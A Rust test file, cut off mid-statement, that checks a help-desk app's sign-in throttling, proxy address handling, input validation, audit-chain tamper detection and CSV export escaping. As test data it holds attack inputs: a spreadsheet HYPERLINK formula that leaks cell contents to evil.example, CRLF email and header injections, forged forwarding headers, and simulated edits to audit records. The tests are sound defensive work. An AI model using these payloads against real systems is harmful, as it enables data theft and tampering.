//! Sign-in and audit hardening through the real surface: throttles under concurrent bursts,
//! the client address behind proxies, text bounds, the keyed audit chain via `portico audit
//! verify`, CSV formula neutralisation, `next` targets, invitations and resets that reveal
//! nothing, metrics access, custom CSS and remote images in ticket Markdown.

use std::process::Output;

use futures::future::join_all;
use portico::config::Config;
use reqwest::{Client, RequestBuilder, StatusCode};
use serde_json::{Value, json};
use sqlx::Row;
use totp_rs::{Algorithm, Secret, TOTP};

use crate::support::{Db, TestApp, form_csrf, link_in};

const BAD_CREDENTIALS: &str = "That email and password do not match an account here.";
const BAD_CODE: &str = "That code is not valid.";
const THROTTLED: &str = "Too many attempts";
const RESET_SENT: &str = "If an account exists for that address";
/// `throttle::LOGIN_PER_ACCOUNT.max`: wrong passwords or codes checked per account and window.
const ACCOUNT_LIMIT: usize = 5;
/// `throttle::RESET_PER_IP.max` and `RESET_PER_ACCOUNT.max`.
const RESET_IP_LIMIT: usize = 10;
const RESET_ACCOUNT_LIMIT: i64 = 3;
const METRICS_TOKEN: &str = "metrics-token-0123456789abcdef";

// ---- helpers ----

async fn count(app: &TestApp, sql: &str, binds: &[&str]) -> i64 {
    let mut q = sqlx::query(sql);
    for b in binds {
        q = q.bind(*b);
    }
    q.fetch_one(app.state.db.operator("test").reader())
        .await
        .expect(sql)
        .get::<i64, _>(0)
}

async fn exec(app: &TestApp, sql: &str, binds: &[&str]) {
    let mut q = sqlx::query(sql);
    for b in binds {
        q = q.bind(*b);
    }
    q.execute(app.state.db.operator("test").writer())
        .await
        .expect(sql);
}

async fn audit_rows(app: &TestApp) -> i64 {
    count(
        app,
        "SELECT COUNT(*) FROM audit_log a JOIN tenants t ON t.id = a.tenant_id WHERE t.slug = 'acme'",
        &[],
    )
    .await
}

async fn acme_id(app: &TestApp) -> String {
    sqlx::query("SELECT id FROM tenants WHERE slug = 'acme'")
        .fetch_one(app.state.db.operator("test").reader())
        .await
        .expect("acme")
        .get::<String, _>("id")
}

fn times(actions: &[String], action: &str) -> usize {
    actions.iter().filter(|a| *a == action).count()
}

/// The `_csrf` of a sign-in (or other anonymous) page, with the tenant cookie set on `c`.
async fn page_csrf(app: &TestApp, c: &Client, path: &str) -> String {
    let html = c
        .get(app.url(&format!("{path}?tenant=acme")))
        .send()
        .await
        .expect("page")
        .text()
        .await
        .expect("html");
    form_csrf(&html)
}

/// Sends every request at once (one task each, so they really overlap on the server) and
/// returns each answer's status and body.
async fn burst(requests: Vec<RequestBuilder>) -> Vec<(StatusCode, String)> {
    let tasks: Vec<_> = requests
        .into_iter()
        .map(|rb| {
            tokio::spawn(async move {
                let r = rb.send().await.expect("burst request");
                let status = r.status();
                (status, r.text().await.unwrap_or_default())
            })
        })
        .collect();
    join_all(tasks)
        .await
        .into_iter()
        .map(|t| t.expect("burst task"))
        .collect()
}

fn tally(results: &[(StatusCode, String)], status: StatusCode, text: &str) -> usize {
    results
        .iter()
        .filter(|(s, b)| *s == status && b.contains(text))
        .count()
}

fn statuses(results: &[(StatusCode, String)]) -> Vec<u16> {
    results.iter().map(|(s, _)| s.as_u16()).collect()
}

fn sign_in_form(app: &TestApp, c: &Client, csrf: &str, email: &str, pass: &str) -> RequestBuilder {
    c.post(app.url("/login")).form(&[
        ("_csrf", csrf),
        ("email", email),
        ("password", pass),
        ("next", ""),
    ])
}

fn trust_loopback(c: &mut Config) {
    c.trusted_proxies = vec!["127.0.0.1/32".parse().expect("net")];
}

fn trust_elsewhere(c: &mut Config) {
    c.trusted_proxies = vec!["10.0.0.0/8".parse().expect("net")];
}

fn metrics_token(c: &mut Config) {
    c.metrics_token = Some(METRICS_TOKEN.into());
}

fn totp_code(secret: &str, offset: i64) -> String {
    let t = TOTP::new(
        Algorithm::SHA1,
        6,
        1,
        30,
        Secret::Encoded(secret.to_string())
            .to_bytes()
            .expect("secret"),
        None,
        "x".into(),
    )
    .expect("totp");
    t.generate((chrono::Utc::now().timestamp() + offset) as u64)
}

/// Turns on two-step sign-in for the signed-in client `c`; returns the TOTP secret.
async fn enrol_totp(app: &TestApp, c: &Client) -> String {
    let html = c
        .get(app.url("/portal/profile/mfa"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let start = "<code id=\"mfa-secret\" class=\"mfa-secret\">";
    let i = html.find(start).expect("secret on page") + start.len();
    let secret = html[i..].split("</code>").next().unwrap().to_string();
    let csrf = form_csrf(&html);
    let r = c
        .post(app.url("/portal/profile/mfa/enable"))
        .form(&[("_csrf", csrf.as_str()), ("code", &totp_code(&secret, 0))])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "enrolment");
    secret
}

// ---- 1, 2: concurrent bursts take no extra guesses, and are audited once ----

/// Fifty wrong passwords for one account at once, from one address.
async fn concurrent_wrong_passwords_same_ip(app: TestApp) {
    let c = app.client();
    let csrf = page_csrf(&app, &c, "/login").await;
    let rows_before = audit_rows(&app).await;
    let results = burst(
        (0..50)
            .map(|_| sign_in_form(&app, &c, &csrf, "bob@globex.example", "wrong-password!"))
            .collect(),
    )
    .await;
    let wrong = tally(&results, StatusCode::UNAUTHORIZED, BAD_CREDENTIALS);
    let throttled = tally(&results, StatusCode::TOO_MANY_REQUESTS, THROTTLED);
    assert_eq!(wrong + throttled, 50, "{:?}", statuses(&results));
    // The per-IP counter (limit 20) runs alongside, so a request holding an account slot can
    // still lose on the IP: at most the account's five are checked, never more.
    assert!(
        (1..=ACCOUNT_LIMIT).contains(&wrong),
        "{wrong} passwords were checked in a burst of 50"
    );
    let actions = app.audit_actions("acme").await;
    assert_eq!(times(&actions, "auth.login_failed"), wrong);
    // One row per throttled key and window (account and IP may each see their first refusal).
    let throttled_rows = times(&actions, "auth.login_throttled");
    assert!((1..=2).contains(&throttled_rows), "{actions:?}");
    assert_eq!(
        audit_rows(&app).await - rows_before,
        (wrong + throttled_rows) as i64,
        "throttled attempts must not each write an audit row"
    );

    // Locked: the right password is refused too, and writes nothing more.
    let rows = audit_rows(&app).await;
    let r = sign_in_form(&app, &c, &csrf, "bob@globex.example", "portico-demo")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(r.headers().get("retry-after").is_some());
    assert_eq!(audit_rows(&app).await, rows);
}
crate::db_test!(burst_of_wrong_passwords, concurrent_wrong_passwords_same_ip);

/// Fifty wrong passwords for one account at once, each from its own address behind a trusted
/// proxy (a botnet): only the account limit applies, so exactly five are checked.
async fn concurrent_wrong_passwords_many_ips(db: Db) {
    let Some(app) = TestApp::spawn_with(db, trust_loopback).await else {
        return;
    };
    let c = app.client();
    let csrf = page_csrf(&app, &c, "/login").await;
    let rows_before = audit_rows(&app).await;
    let results = burst(
        (0..50)
            .map(|i| {
                sign_in_form(&app, &c, &csrf, "bob@globex.example", "wrong-password!")
                    .header("x-forwarded-for", format!("198.51.100.{}", i + 1))
            })
            .collect(),
    )
    .await;
    assert_eq!(
        tally(&results, StatusCode::UNAUTHORIZED, BAD_CREDENTIALS),
        ACCOUNT_LIMIT,
        "{:?}",
        statuses(&results)
    );
    assert_eq!(
        tally(&results, StatusCode::TOO_MANY_REQUESTS, THROTTLED),
        50 - ACCOUNT_LIMIT
    );
    let actions = app.audit_actions("acme").await;
    assert_eq!(times(&actions, "auth.login_failed"), ACCOUNT_LIMIT);
    assert_eq!(times(&actions, "auth.login_throttled"), 1, "{actions:?}");
    assert_eq!(
        audit_rows(&app).await - rows_before,
        ACCOUNT_LIMIT as i64 + 1
    );
    // The right password from a fresh address: the account itself is locked.
    let r = sign_in_form(&app, &c, &csrf, "bob@globex.example", "portico-demo")
        .header("x-forwarded-for", "198.51.100.200")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    // Another account from the same fresh address is not affected.
    let r = sign_in_form(&app, &c, &csrf, "vera@globex.example", "portico-demo")
        .header("x-forwarded-for", "198.51.100.200")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
}
crate::db_test_with!(
    burst_of_wrong_passwords_many_ips,
    concurrent_wrong_passwords_many_ips
);

/// Fifty wrong second-factor codes at once on one pending sign-in.
async fn concurrent_wrong_codes(app: TestApp) {
    let (c, r) = app
        .form_login("acme", "bob@globex.example", "portico-demo", false)
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let secret = enrol_totp(&app, &c).await;

    let (c2, r) = app
        .form_login("acme", "bob@globex.example", "portico-demo", false)
        .await;
    let to = r.headers()["location"].to_str().unwrap().to_string();
    assert!(to.starts_with("/mfa"), "{to}");
    let html = c2
        .get(app.url(&to))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let csrf = form_csrf(&html);
    // A code that is valid at no step near now, so every guess is wrong.
    let near: Vec<String> = (-4..=4).map(|k| totp_code(&secret, k * 30)).collect();
    let wrong_code = (0..10)
        .map(|d| d.to_string().repeat(6))
        .find(|c| !near.contains(c))
        .expect("a wrong code");
    let rows_before = audit_rows(&app).await;
    let results = burst(
        (0..50)
            .map(|_| {
                c2.post(app.url("/mfa")).form(&[
                    ("_csrf", csrf.as_str()),
                    ("code", wrong_code.as_str()),
                    ("next", ""),
                ])
            })
            .collect(),
    )
    .await;
    assert_eq!(
        tally(&results, StatusCode::UNAUTHORIZED, BAD_CODE),
        ACCOUNT_LIMIT,
        "{:?}",
        statuses(&results)
    );
    assert_eq!(
        tally(&results, StatusCode::TOO_MANY_REQUESTS, THROTTLED),
        50 - ACCOUNT_LIMIT
    );
    let actions = app.audit_actions("acme").await;
    assert_eq!(times(&actions, "auth.mfa_failed"), ACCOUNT_LIMIT);
    assert_eq!(times(&actions, "auth.login_throttled"), 1, "{actions:?}");
    assert_eq!(
        audit_rows(&app).await - rows_before,
        ACCOUNT_LIMIT as i64 + 1
    );
    // The right (unused) code now waits too, and no session was started.
    let r = c2
        .post(app.url("/mfa"))
        .form(&[
            ("_csrf", csrf.as_str()),
            ("code", &totp_code(&secret, 30)),
            ("next", ""),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    let r = c2.get(app.url("/api/v1/me")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
}
crate::db_test!(burst_of_wrong_codes, concurrent_wrong_codes);

/// Fifty reset requests for one account at once: the IP limit answers the rest with 429 and
/// the account limit caps the links actually made.
async fn concurrent_reset_requests(app: TestApp) {
    let c = app.client();
    let csrf = page_csrf(&app, &c, "/forgot-password").await;
    let results = burst(
        (0..50)
            .map(|_| {
                c.post(app.url("/forgot-password"))
                    .form(&[("_csrf", csrf.as_str()), ("email", "bob@globex.example")])
            })
            .collect(),
    )
    .await;
    assert_eq!(
        tally(&results, StatusCode::OK, RESET_SENT),
        RESET_IP_LIMIT,
        "{:?}",
        statuses(&results)
    );
    assert_eq!(
        tally(&results, StatusCode::TOO_MANY_REQUESTS, THROTTLED),
        50 - RESET_IP_LIMIT
    );
    let links = count(
        &app,
        "SELECT COUNT(*) FROM one_time_tokens t JOIN users u ON u.id = t.user_id AND u.tenant_id = t.tenant_id \
         WHERE u.email = $1 AND t.purpose = 'reset'",
        &["bob@globex.example"],
    )
    .await;
    assert_eq!(links, RESET_ACCOUNT_LIMIT, "reset links made");
    let actions = app.audit_actions("acme").await;
    assert_eq!(
        times(&actions, "auth.password_reset_requested") as i64,
        RESET_ACCOUNT_LIMIT
    );
}
crate::db_test!(burst_of_reset_requests, concurrent_reset_requests);

// ---- 3: the client address and PORTICO_TRUSTED_PROXIES ----

/// The peer (loopback) is not a trusted proxy: forwarding headers are ignored, so forging a
/// new address per guess does not escape the per-IP limit.
async fn forged_forwarding_headers_are_ignored(db: Db) {
    let Some(app) = TestApp::spawn_with(db, trust_elsewhere).await else {
        return;
    };
    let c = app.client();
    let csrf = page_csrf(&app, &c, "/login").await;
    for i in 0..20 {
        let r = sign_in_form(
            &app,
            &c,
            &csrf,
            &format!("ghost{i}@example.com"),
            "wrong-password!",
        )
        .header("x-forwarded-for", format!("203.0.113.{}", i + 1))
        .header("forwarded", format!("for=198.51.100.{}", i + 1))
        .send()
        .await
        .unwrap();
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED, "attempt {i}");
    }
    let r = sign_in_form(&app, &c, &csrf, "vera@globex.example", "portico-demo")
        .header("x-forwarded-for", "203.0.113.99")
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        StatusCode::TOO_MANY_REQUESTS,
        "a forged X-Forwarded-For dodged the per-IP limit"
    );
    let forged = count(
        &app,
        "SELECT COUNT(*) FROM audit_log WHERE ip LIKE '203.0.113.%' OR ip LIKE '198.51.100.%'",
        &[],
    )
    .await;
    assert_eq!(forged, 0, "a forged address reached the audit log");
    assert!(
        count(
            &app,
            "SELECT COUNT(*) FROM audit_log WHERE action = 'auth.login_failed' AND ip = '127.0.0.1'",
            &[]
        )
        .await
            >= 20
    );
}
crate::db_test_with!(
    untrusted_peer_forwarding,
    forged_forwarding_headers_are_ignored
);

/// Behind a trusted proxy each forwarded client has its own bucket, and a client-supplied
/// entry to the left of the proxy's cannot pick another one.
async fn forwarded_clients_are_throttled_separately(db: Db) {
    let Some(app) = TestApp::spawn_with(db, trust_loopback).await else {
        return;
    };
    let c = app.client();
    let csrf = page_csrf(&app, &c, "/login").await;
    let results = burst(
        (0..25)
            .map(|i| {
                sign_in_form(
                    &app,
                    &c,
                    &csrf,
                    &format!("ghost{i}@example.com"),
                    "wrong-password!",
                )
                .header("x-forwarded-for", "198.51.100.1")
            })
            .collect(),
    )
    .await;
    assert_eq!(
        tally(&results, StatusCode::UNAUTHORIZED, BAD_CREDENTIALS),
        20,
        "{:?}",
        statuses(&results)
    );
    assert_eq!(tally(&results, StatusCode::TOO_MANY_REQUESTS, THROTTLED), 5);
    // A fresh browser each time: after a sign-in the old page's CSRF token no longer fits.
    let send = |email: &'static str, xff: Option<&'static str>, fwd: Option<&'static str>| {
        let app = &app;
        async move {
            let c = app.client();
            let csrf = page_csrf(app, &c, "/login").await;
            let mut rb = sign_in_form(app, &c, &csrf, email, "portico-demo");
            if let Some(v) = xff {
                rb = rb.header("x-forwarded-for", v);
            }
            if let Some(v) = fwd {
                rb = rb.header("forwarded", v);
            }
            rb.send().await
        }
    };
    let r = send("vera@globex.example", Some("198.51.100.1"), None)
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    // The client prepends a fake address; the proxy appends the real one, which counts.
    let r = send(
        "vera@globex.example",
        Some("192.0.2.77, 198.51.100.1"),
        None,
    )
    .await
    .unwrap();
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    // Another client behind the same proxy is not affected.
    let r = send("vera@globex.example", Some("198.51.100.2"), None)
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    // `Forwarded` is preferred over `X-Forwarded-For`.
    let r = send(
        "bob@globex.example",
        Some("198.51.100.1"),
        Some("for=198.51.100.3;proto=https"),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    // Without any forwarding header, the proxy itself is the client (its own bucket).
    let r = send("alice@globex.example", None, None).await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    // The audit log records the forwarded client.
    assert_eq!(
        count(
            &app,
            "SELECT COUNT(*) FROM audit_log WHERE action = 'auth.login_failed' AND ip = '198.51.100.1'",
            &[]
        )
        .await,
        20
    );
    assert_eq!(
        count(
            &app,
            "SELECT COUNT(*) FROM audit_log WHERE action = 'auth.login' AND ip = '198.51.100.2'",
            &[]
        )
        .await,
        1
    );
}
crate::db_test_with!(
    trusted_proxy_forwarding,
    forwarded_clients_are_throttled_separately
);

// ---- 4: text bounds ----

fn field_names(e: &Value) -> Vec<String> {
    e["error"]["fields"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|f| f["field"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

async fn over_long_and_control_characters_are_refused(app: TestApp) {
    // Sign-in: an over-long address is refused before it is stored as a throttle key,
    // hashed against anything or written to the log.
    let long = format!("{}@globex.example", "a".repeat(250));
    let limits = count(&app, "SELECT COUNT(*) FROM rate_limits", &[]).await;
    let rows = audit_rows(&app).await;
    let (_, r) = app.form_login("acme", &long, "some-password!", false).await;
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    assert!(r.text().await.unwrap().contains(BAD_CREDENTIALS));
    let (_, r) = app
        .form_login("acme", "bob@globex.example\0", "some-password!", false)
        .await;
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM rate_limits", &[]).await,
        limits,
        "a throttle key was stored for a refused address"
    );
    assert_eq!(audit_rows(&app).await, rows);
    // Reset request: a field error, nothing counted.
    let c = app.client();
    let csrf = page_csrf(&app, &c, "/forgot-password").await;
    let r = c
        .post(app.url("/forgot-password"))
        .form(&[("_csrf", csrf.as_str()), ("email", long.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM rate_limits", &[]).await,
        limits
    );

    let staff = app.api_login("acme", "staff@acme.example", "admin").await;
    let globex = app.company_id("acme", "Globex").await;
    // Companies: create and rename.
    let companies = count(&app, "SELECT COUNT(*) FROM companies", &[]).await;
    for bad in [
        "Hoo\0li",
        "Hoo\u{7}li",
        "Hoo\nli",
        "Hoo\u{202E}il",
        "Hoo\u{85}li",
    ] {
        let r = staff
            .post_json("/api/v1/admin/companies", &json!({ "name": bad }))
            .await;
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{bad:?}");
        let e: Value = r.json().await.unwrap();
        assert_eq!(field_names(&e), ["name"], "{bad:?}: {e}");
        let r = staff
            .patch_json(
                &format!("/api/v1/admin/companies/{globex}"),
                &json!({ "name": bad }),
            )
            .await;
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "rename {bad:?}");
    }
    let r = staff
        .post_json(
            "/api/v1/admin/companies",
            &json!({ "name": "x".repeat(121) }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM companies", &[]).await,
        companies
    );
    assert_eq!(app.company_id("acme", "Globex").await, globex);

    // Invitations, by staff and by a company admin.
    let users = count(&app, "SELECT COUNT(*) FROM users", &[]).await;
    for (email, name, field) in [
        ("nina@globex.example", "Nina\0", "name"),
        ("nina@globex.example", "Nina\u{1b}[31m", "name"),
        ("nina@globex.example", "Nina\r\nBcc: x@evil.example", "name"),
        (long.as_str(), "Nina", "email"),
        ("nina\0@globex.example", "Nina", "email"),
    ] {
        let r = staff
            .post_json(
                "/api/v1/admin/users",
                &json!({ "email": email, "name": name, "role": "client_user", "company_id": globex }),
            )
            .await;
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{name:?}");
        let e: Value = r.json().await.unwrap();
        assert_eq!(field_names(&e), [field], "{e}");
    }
    let alice = app
        .api_login("acme", "alice@globex.example", "portal")
        .await;
    let r = alice
        .post_json(
            "/api/v1/team",
            &json!({ "email": "nina@globex.example", "name": "Ni\u{0}na", "role": "client_user" }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let e: Value = r.json().await.unwrap();
    assert_eq!(field_names(&e), ["name"], "{e}");
    assert_eq!(count(&app, "SELECT COUNT(*) FROM users", &[]).await, users);

    // Tickets: the subject is one line; the description may span lines but holds no NUL.
    let bob = app.api_login("acme", "bob@globex.example", "portal").await;
    let tickets = count(&app, "SELECT COUNT(*) FROM tickets", &[]).await;
    for (subject, description, field) in [
        ("Printer\0", "It jams.", "subject"),
        ("Printer\r\nX-Injected: 1", "It jams.", "subject"),
        ("Printer\u{202E}", "It jams.", "subject"),
        ("Printer", "It\0 jams.", "description"),
    ] {
        let r = bob
            .post_json(
                "/api/v1/tickets",
                &json!({ "subject": subject, "description": description }),
            )
            .await;
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{subject:?}");
        let e: Value = r.json().await.unwrap();
        assert_eq!(field_names(&e), [field], "{e}");
    }
    let r = bob
        .post_json(
            "/api/v1/tickets",
            &json!({ "subject": "s".repeat(201), "description": "x" }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM tickets", &[]).await,
        tickets
    );
    // Line breaks and tabs stay allowed where text spans lines.
    let r = bob
        .post_json(
            "/api/v1/tickets",
            &json!({ "subject": "Printer", "description": "It jams.\n\tEvery time.\r\n" }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::CREATED);

    // Branding: every bad field reported, nothing stored.
    let r = staff
        .put_json(
            "/api/v1/admin/branding",
            &json!({
                "portal_name": "Acme\0 IT",
                "welcome_text": "Hello\u{0}there",
                "support_email": "help\u{7}@acme.example",
                "custom_css": ".tile { color: red }\u{0}",
            }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let e: Value = r.json().await.unwrap();
    assert_eq!(
        field_names(&e),
        ["portal_name", "welcome_text", "custom_css", "support_email"],
        "{e}"
    );
    let b: Value = app
        .client()
        .get(app.url("/api/portal/branding?tenant=acme"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(b["portal_name"], "Acme IT");
    assert!(!b.to_string().contains("Hello"), "{b}");
}
crate::db_test!(text_bounds, over_long_and_control_characters_are_refused);

// ---- 5: the audit chain through `portico audit verify` ----

async fn portico(app: &TestApp, args: &[&str]) -> Output {
    let secret = String::from_utf8(app.state.config.secret_key.clone()).expect("utf-8 secret");
    tokio::process::Command::new(env!("CARGO_BIN_EXE_portico"))
        .args(args)
        .env_clear()
        .env("PORTICO_DATA_DIR", &app.data_dir)
        .env("PORTICO_DATABASE_URL", &app.state.config.database_url)
        .env("PORTICO_SECRET_KEY", secret)
        .env("PORTICO_BASE_URL", app.url(""))
        .output()
        .await
        .expect("run portico")
}

/// `Ok(stdout)` when the chain verifies, `Err(stderr)` when not.
async fn verify(app: &TestApp) -> Result<String, String> {
    let out = portico(app, &["audit", "verify", "--tenant", "acme"]).await;
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    if out.status.success() {
        Ok(stdout)
    } else {
        Err(stderr)
    }
}

fn broken_at(r: Result<String, String>, seq: i64) {
    match r {
        Ok(out) => panic!("tampering went unnoticed: {out}"),
        Err(err) => assert!(
            err.contains(&format!("broken at entry {seq}")),
            "expected a break at {seq}: {err}"
        ),
    }
}

async fn head_seq(app: &TestApp) -> i64 {
    count(
        app,
        "SELECT MAX(seq) FROM audit_log a JOIN tenants t ON t.id = a.tenant_id WHERE t.slug = 'acme'",
        &[],
    )
    .await
}

async fn keyed_chain_detects_tampering(app: TestApp) {
    // Some history: sign-ins, a failure (no actor id), a change.
    let staff = app.api_login("acme", "staff@acme.example", "admin").await;
    app.form_login("acme", "bob@globex.example", "wrong-password!", false)
        .await;
    let r = staff
        .post_json("/api/v1/admin/companies", &json!({ "name": "Hooli" }))
        .await;
    assert_eq!(r.status(), StatusCode::CREATED);
    app.api_login("acme", "bob@globex.example", "portal").await;
    let tenant = acme_id(&app).await;
    let last = head_seq(&app).await;
    assert!(last >= 4);

    let ok = verify(&app).await.expect("an intact chain verifies");
    assert!(ok.contains("audit chain of acme: OK"), "{ok}");

    // Editing a stored field breaks that link.
    let (seq, detail): (i64, String) = {
        let r = sqlx::query(
            "SELECT seq, detail FROM audit_log WHERE tenant_id = $1 AND action = 'company.created'",
        )
        .bind(&tenant)
        .fetch_one(app.state.db.operator("test").reader())
        .await
        .expect("company.created row");
        (r.get("seq"), r.get("detail"))
    };
    let seq_s = seq.to_string();
    exec(
        &app,
        "UPDATE audit_log SET detail = '{\"name\":\"Initech\"}' WHERE tenant_id = $1 AND seq = CAST($2 AS BIGINT)",
        &[&tenant, &seq_s],
    )
    .await;
    broken_at(verify(&app).await, seq);
    exec(
        &app,
        "UPDATE audit_log SET detail = $3 WHERE tenant_id = $1 AND seq = CAST($2 AS BIGINT)",
        &[&tenant, &seq_s, &detail],
    )
    .await;
    verify(&app).await.expect("restored");

    // NULL and "" differ: giving the failed sign-in an empty actor id is a change.
    let failed: i64 = sqlx::query(
        "SELECT seq FROM audit_log WHERE tenant_id = $1 AND action = 'auth.login_failed' AND actor_id IS NULL",
    )
    .bind(&tenant)
    .fetch_one(app.state.db.operator("test").reader())
    .await
    .expect("failed sign-in row")
    .get("seq");
    let failed_s = failed.to_string();
    exec(
        &app,
        "UPDATE audit_log SET actor_id = '' WHERE tenant_id = $1 AND seq = CAST($2 AS BIGINT)",
        &[&tenant, &failed_s],
    )
    .await;
    broken_at(verify(&app).await, failed);
    exec(
        &app,
        "UPDATE audit_log SET actor_id = NULL WHERE tenant_id = $1 AND seq = CAST($2 AS BIGINT)",
        &[&tenant, &failed_s],
    )
    .await;
    verify(&app).await.expect("restored");

    // Deleting the newest entries: every remaining link is fine, the head is not.
    let cut = (last - 1).to_string();
    exec(
        &app,
        "DELETE FROM audit_log WHERE tenant_id = $1 AND seq >= CAST($2 AS BIGINT)",
        &[&tenant, &cut],
    )
    .await;
    broken_at(verify(&app).await, last - 1);

    // Someone without the key "repairs" the chain with plain SHA-256 and moves the head to
    // match: still detected, with or without resetting the keyed flag, and a later start of
    // the program (which runs the migrations) does not re-bless it.
    let rows = sqlx::query(
        "SELECT seq, at, actor_id, actor_email, company_id, action, target_type, target_id, ip, detail \
         FROM audit_log WHERE tenant_id = $1 ORDER BY seq",
    )
    .bind(&tenant)
    .fetch_all(app.state.db.operator("test").reader())
    .await
    .expect("chain rows");
    let mut prev = String::new();
    let mut forged = Vec::new();
    for r in &rows {
        let opt = |c: &str| r.get::<Option<String>, _>(c);
        let (actor_id, actor_email, company_id) =
            (opt("actor_id"), opt("actor_email"), opt("company_id"));
        let (target_type, target_id, ip) = (opt("target_type"), opt("target_id"), opt("ip"));
        let action: String = r.get("action");
        let detail: String = r.get("detail");
        let seq: i64 = r.get("seq");
        let e = portico::audit::Entry {
            actor_id: actor_id.as_deref(),
            actor_email: actor_email.as_deref(),
            company_id: company_id.as_deref(),
            action: &action,
            target_type: target_type.as_deref(),
            target_id: target_id.as_deref(),
            ip: ip.as_deref(),
            detail: Value::Null,
        };
        let hash = portico::audit::legacy_hash(&prev, seq, r.get("at"), &e, &detail);
        forged.push((seq, prev.clone(), hash.clone()));
        prev = hash;
    }
    for (seq, p, h) in &forged {
        exec(
            &app,
            "UPDATE audit_log SET prev_hash = $3, hash = $4 WHERE tenant_id = $1 AND seq = CAST($2 AS BIGINT)",
            &[&tenant, &seq.to_string(), p, h],
        )
        .await;
    }
    let new_head = (last - 2).to_string();
    exec(
        &app,
        "UPDATE tenants SET audit_seq = CAST($2 AS BIGINT), audit_head = $3 WHERE id = $1",
        &[&tenant, &new_head, &prev],
    )
    .await;
    broken_at(verify(&app).await, 1);
    exec(
        &app,
        "UPDATE tenants SET audit_keyed = 0 WHERE id = $1",
        &[&tenant],
    )
    .await;
    broken_at(verify(&app).await, 1);
    let out = portico(&app, &["migrate"]).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    broken_at(verify(&app).await, 1);
    // The admin page says so too.
    let html = staff.get("/admin/audit").await.text().await.unwrap();
    assert!(!html.contains("The chain is intact."), "{html}");
}
crate::db_test!(audit_chain_cli, keyed_chain_detects_tampering);

// ---- 6: CSV exports neutralise formulas ----

fn csv_rows(body: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(body.as_bytes())
        .records()
        .map(|r| r.expect("csv record"))
        .collect()
}

fn assert_no_formula_cells(rows: &[csv::StringRecord]) {
    for row in rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?} in {row:?}"
            );
        }
    }
}

async fn csv_exports_neutralise_formulas(app: TestApp) {
    // An outsider's failed sign-ins put what they typed into the staff audit log.
    let typed = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "+1@globex.example",
        "-2@globex.example",
        "@x",
        "\t=tab@globex.example",
        "\r=cr@globex.example",
    ];
    for email in typed {
        let (_, r) = app
            .form_login("acme", email, "wrong-password!", false)
            .await;
        assert!(
            matches!(r.status(), StatusCode::UNAUTHORIZED),
            "{email:?}: {}",
            r.status()
        );
    }
    let staff = app.api_login("acme", "staff@acme.example", "admin").await;
    let r = staff.get("/admin/audit?format=csv").await;
    assert_eq!(r.status(), StatusCode::OK);
    let rows = csv_rows(&r.text().await.unwrap());
    assert_no_formula_cells(&rows);
    let emails: Vec<&str> = rows.iter().map(|r| &r[2]).collect();
    for expected in [
        "'=hyperlink(\"http://evil.example/?leak=\"&a1,\"click\")",
        "'+1@globex.example",
        "'-2@globex.example",
        "'@x",
    ] {
        assert!(emails.contains(&expected), "{expected} not in {emails:?}");
    }

    // A company member whose address and name start formulas, seen in the company export.
    let globex = app.company_id("acme", "Globex").await;
    let r = staff
        .post_json(
            "/api/v1/admin/users",
            &json!({ "email": "+1@globex.example", "name": "=HYPERLINK(\"http://evil.example\",\"x\")",
                     "role": "client_user", "company_id": globex }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::CREATED);
    let mail = app.last_mail_to("+1@globex.example").await;
    let link = link_in(&mail, &app.url("/invite/accept"));
    let token = link.split("token=").nth(1).unwrap().to_string();
    let c = app.client();
    let page = c.get(&link).send().await.unwrap().text().await.unwrap();
    let csrf = form_csrf(&page);
    let r = c
